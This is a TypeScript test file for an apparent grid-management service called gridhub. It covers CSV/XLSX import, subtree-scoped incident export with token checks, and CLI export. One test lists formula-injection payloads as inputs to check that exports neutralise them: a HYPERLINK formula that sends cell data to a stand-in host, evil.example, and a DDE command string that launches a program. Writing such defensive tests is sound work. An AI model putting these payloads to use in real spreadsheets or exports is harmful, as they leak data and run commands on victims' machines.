import ExcelJS from 'exceljs';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DateTime } from 'luxon';
import type * as Op from '../generated/operations';
import { REPORT_INCIDENT } from '../operations';
import { readTable } from '../../src/infra/spreadsheet';
import { ADMIN, gqlOk, useHub } from '../setup/hub';
import { runCli } from '../setup/processes';

const FIXTURES = join(__dirname, '..', 'fixtures');
const dir = mkdtempSync(join(tmpdir(), 'gridhub-import-'));

/** Everything the import may write, as comparable rows. */
async function snapshot(pg: { query: (sql: string) => Promise<{ rows: unknown[] }> }) {
  const q = async (sql: string) => (await pg.query(sql)).rows;
  return {
    grids: await q(`select g.code, g.name, g.level, p.code as parent, g.households, g.population, nlevel(g.path) as depth from grid g left join grid p on p.id = g.parent_id order by g.code`),
    departments: await q(`select g.code, d.name from department d join grid g on g.id = d.grid_id order by 1, 2`),
    members: await q(`select g.code, m.name, m.role, m.phone, d.name as department from member m join grid g on g.id = m.grid_id left join department d on d.id = m.department_id order by 1, 2`),
  };
}

/** The CSV fixture's rows as a one-sheet workbook, with `edit` applied to each row first. */
async function xlsxFrom(csv: string, edit: (row: string[]) => string[] = (r) => r): Promise<string> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('city');
  for (const line of readFileSync(join(FIXTURES, csv), 'utf8').trim().split('\n')) sheet.addRow(edit(line.split(',')));
  const file = join(dir, csv.replace('.csv', '.xlsx'));
  await book.xlsx.writeFile(file);
  return file;
}

describe('gridhub import', () => {
  const t = useHub({ database: 'empty', instances: 0 });
  const importFile = (file: string) => runCli(['import', file], { DATABASE_URL: t.databaseUrl });

  it('loads a small city from CSV with its tree, departments and members; the same file again changes nothing', async () => {
    const first = await importFile(join(FIXTURES, 'city.csv'));
    expect(first).toMatchObject({ code: 0, stdout: expect.stringContaining('grids 5 new, 0 updated; departments 2 new; members 5 new, 0 updated') });
    const loaded = await snapshot(t.pg);
    expect(loaded.grids).toEqual(expect.arrayContaining([{ code: 'NEW-S01-C01-G01', name: '湖滨第一网格', level: 'grid', parent: 'NEW-S01-C01', households: 300, population: 820, depth: 4 }]));
    expect(loaded.members).toEqual(
      expect.arrayContaining([
        { code: 'NEW-S01-C01', name: '李网格长', role: 'chief', phone: '0571-88886666', department: null },
        { code: 'NEW-S01', name: '周科员', role: 'department', phone: null, department: '城管' },
      ]),
    );
    const again = await importFile(join(FIXTURES, 'city.csv'));
    expect(again).toMatchObject({ code: 0, stdout: expect.stringContaining('grids 0 new, 0 updated; departments 0 new; members 0 new, 0 updated') });
    expect(await snapshot(t.pg)).toEqual(loaded);
  });

  it('reads the same city from XLSX: unchanged rows stay, changed names and phones update', async () => {
    const before = await snapshot(t.pg);
    const file = await xlsxFrom('city.csv', (row) => {
      if (row[1] === 'NEW-S01-C01-G02' && row[0] === 'grid') row[2] = '湖滨二网格';
      if (row[2] === '赵网格员') row[6] = '13900000009';
      return row;
    });
    const r = await importFile(file);
    expect(r).toMatchObject({ code: 0, stdout: expect.stringContaining('grids 0 new, 1 updated; departments 0 new; members 0 new, 1 updated') });
    const after = await snapshot(t.pg);
    expect(after.grids.length).toBe(before.grids.length);
    expect(after.members.length).toBe(before.members.length);
    expect(after.grids).toContainEqual(expect.objectContaining({ code: 'NEW-S01-C01-G02', name: '湖滨二网格' }));
    expect(after.members).toContainEqual(expect.objectContaining({ name: '赵网格员', phone: '13900000009' }));
  });

  it('lists every bad row with its line and writes nothing, from CSV and from XLSX', async () => {
    const before = await snapshot(t.pg);
    for (const file of [join(FIXTURES, 'city-bad.csv'), await xlsxFrom('city-bad.csv')]) {
      const r = await importFile(file);
      expect(r.code).toBe(1);
      const lines = [...r.stderr.matchAll(/:(\d+): /g)].map((m) => Number(m[1]));
      expect(lines).toEqual([3, 4, 7, 8, 10]);
      expect(r.stderr).toContain(`${file}:4: level planet is not one of`);
      expect(r.stderr).toContain('5 bad row(s); nothing was written');
    }
    // Rows good on their own but wrong against the file or the database: refused the same way.
    const cross = join(dir, 'cross.csv');
    writeFileSync(cross, ['kind,grid,name,level,parent,role,phone,department', 'grid,BAD,坏城区,district,,,,', 'grid,BAD-S03,北街道,street,NOPE,,,', 'member,BAD,吴某,,,department,,水务', 'grid,NEW-S01,东湖街道,community,NEW,,,'].join('\n'));
    const r = await importFile(cross);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`${cross}:3: parent NOPE is neither in the file nor stored`);
    expect(r.stderr).toContain(`${cross}:4: department 水务 is neither in the file nor stored at grid BAD`);
    expect(r.stderr).toContain(`${cross}:5: grid NEW-S01 is a street; an import does not change levels`);
    expect(await snapshot(t.pg)).toEqual(before);
  });
});

describe('export over HTTP and by the CLI', () => {
  const t = useHub();
  const base = () => t.hub.url.replace('/graphql', '');
  const days = () => {
    const today = DateTime.now().setZone('Asia/Shanghai');
    return { from: today.minus({ days: 1 }).toISODate()!, to: today.plus({ days: 1 }).toISODate()! };
  };
  const download = async (url: string, token: string): Promise<{ status: number; file: string; type: string | null }> => {
    const res = await fetch(`${base()}${url}`, { headers: { authorization: `Bearer ${token}` } });
    const file = join(dir, `download-${Math.random().toString(36).slice(2)}.${url.includes('.xlsx') ? 'xlsx' : 'csv'}`);
    writeFileSync(file, Buffer.from(await res.arrayBuffer()));
    return { status: res.status, file, type: res.headers.get('content-type') };
  };

  it('gives a token the incidents of its own subtree, as CSV and XLSX, and refuses other subtrees', async () => {
    const mine = [];
    for (const d of ['路灯不亮', '井盖缺失, "危险"']) mine.push((await gqlOk<Op.ReportIncidentMutation>(t.hub, ADMIN, REPORT_INCIDENT, { input: { grid: 'XHG-B01-C01-M01', description: d } })).reportIncident.code);
    const other = (await gqlOk<Op.ReportIncidentMutation>(t.hub, ADMIN, REPORT_INCIDENT, { input: { grid: 'XHG-B02-C03-M05', description: '垃圾堆放' } })).reportIncident.code;
    const chief = await t.token('CHIEF', 'XHG-B01-C01');
    const { from, to } = days();
    for (const format of ['csv', 'xlsx']) {
      const got = await download(`/export/incidents.${format}?from=${from}&to=${to}`, chief);
      expect(got.status).toBe(200);
      expect(got.type).toContain(format === 'csv' ? 'text/csv' : 'spreadsheetml');
      const table = await readTable(got.file);
      expect(table.headers).toEqual(expect.arrayContaining(['code', 'grid', 'category', 'status', 'description', 'created_at']));
      expect(table.rows.map((r) => r.cells['code']).sort()).toEqual([...mine].sort());
      expect(table.rows.map((r) => r.cells['description']).sort()).toEqual(['井盖缺失, "危险"', '路灯不亮'].sort());
    }
    const all = await readTable((await download(`/export/incidents.csv?from=${from}&to=${to}`, ADMIN)).file);
    expect(all.rows.map((r) => r.cells['code'])).toEqual(expect.arrayContaining([...mine, other]));
    expect((await download(`/export/incidents.csv?from=${from}&to=${to}&scope=XHG-B02`, chief)).status).toBe(404);
    expect((await download(`/export/incidents.csv?from=${from}&to=${to}`, 'not-a-token')).status).toBe(401);
    expect((await download(`/export/secrets.csv?from=${from}&to=${to}`, chief)).status).toBe(400);
  });

  it('neutralises text a spreadsheet would run as a formula, in CSV and XLSX, and leaves other values alone', async () => {
    const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点我查看")', '+1+2 井盖', '-3+4 路灯', '@SUM(1,2) 垃圾', '=cmd|\' /C calc\'!A0'];
    const plain = '路灯-坏了 =不是公式';
    const codes = new Map<string, string>();
    for (const d of [...attacks, plain]) codes.set((await gqlOk<Op.ReportIncidentMutation>(t.hub, ADMIN, REPORT_INCIDENT, { input: { grid: 'XHG-B04-C08-M01', description: d } })).reportIncident.code, d);
    const { from, to } = days();
    for (const format of ['csv', 'xlsx']) {
      const got = await download(`/export/incidents.${format}?from=${from}&to=${to}&scope=XHG-B04-C08-M01`, ADMIN);
      expect(got.status).toBe(200);
      const mine = (await readTable(got.file)).rows.filter((r) => codes.has(r.cells['code']!));
      expect(mine).toHaveLength(codes.size);
      for (const row of mine) {
        const stored = codes.get(row.cells['code']!)!;
        expect(row.cells['description']).toBe(stored === plain ? plain : `'${stored}`);
        expect(row.cells['urgent']).toBe('false');
      }
      if (format === 'csv') {
        // No field of the raw file starts a formula, quoted or not.
        expect(readFileSync(got.file, 'utf8')).not.toMatch(/(^|,)"?[=+\-@]/m);
      } else {
        const book = new ExcelJS.Workbook();
        await book.xlsx.readFile(got.file);
        const sheet = book.worksheets[0]!;
        const col = (sheet.getRow(1).values as unknown[]).indexOf('description');
        const urgentCol = (sheet.getRow(1).values as unknown[]).indexOf('urgent');
        sheet.eachRow((row, n) => {
          if (n === 1) return;
          expect(row.getCell(col).type).toBe(ExcelJS.ValueType.String);
          // Booleans (and numbers) are written as the values they are, not as text.
          expect(row.getCell(urgentCol).type).toBe(ExcelJS.ValueType.Boolean);
        });
      }
    }
  });

  it('writes receipts and clearance tables (headers even when empty) with gridhub export', async () => {
    const { from, to } = days();
    for (const what of ['receipts', 'clearance']) {
      const out = join(dir, `${what}.xlsx`);
      const r = await runCli(['export', '--what', what, '--from', from, '--to', to, '--scope', 'XHG-B01', '--out', out], { DATABASE_URL: t.databaseUrl });
      expect(r).toMatchObject({ code: 0, stdout: expect.stringMatching(new RegExp(`wrote \\d+ ${what} row\\(s\\)`)) });
      expect((await readTable(out)).headers).toContain('grid');
    }
    const bad = await runCli(['export', '--what', 'incidents', '--from', to, '--to', from, '--out', join(dir, 'x.csv')], { DATABASE_URL: t.databaseUrl });
    expect(bad).toMatchObject({ code: 2, stderr: expect.stringContaining('to must be after from') });
  });
});
